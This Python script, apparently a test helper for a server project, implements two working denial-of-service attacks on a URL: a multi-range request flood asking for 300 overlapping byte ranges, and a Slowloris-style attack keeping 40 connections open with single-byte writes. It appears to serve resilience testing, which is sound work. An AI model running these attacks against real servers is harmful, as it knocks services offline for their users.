# SPDX-License-Identifier: Apache-2.0
# Copyright the Tactus authors.
"""web_peers.py URL ATTACK: requests that a page, or any program of this machine, may send to the
server of a URL. With `parts` four request 300 parts each at once; prints each answer's size. With
`slow`, 40 connections stay, are reopened when closed, and send single bytes of a request until
standard input ends; prints `ready` when all are open."""
import select
import socket
import sys
import threading
import time
from urllib.parse import urlsplit

url, attack = urlsplit(sys.argv[1]), sys.argv[2]


def connect():
    return socket.create_connection((url.hostname, url.port))


def ask_for_parts(sizes):
    with connect() as peer:
        peer.sendall(f"GET {url.path} HTTP/1.1\r\nHost: {url.netloc}\r\n"
                     f"Range: bytes={','.join(300 * ['0-'])}\r\n\r\n".encode())
        size = 0
        while data := peer.recv(1 << 20):
            size += len(data)
        sizes.append(size)


def keep_forty():
    peers = []
    is_told = False
    while not select.select([sys.stdin], [], [], 0)[0]:
        while len(peers) < 40:
            peers.append(connect())
        if not is_told:
            is_told = True
            print("ready", flush=True)
        for peer in list(peers):
            try:
                peer.send(b"G")
                if select.select([peer], [], [], 0)[0] and not peer.recv(4096):
                    raise ConnectionResetError
            except OSError:
                peers.remove(peer)
        time.sleep(0.01)


if attack == "parts":
    answers = []
    threads = [threading.Thread(target=ask_for_parts, args=(answers,)) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(*answers)
else:
    keep_forty()
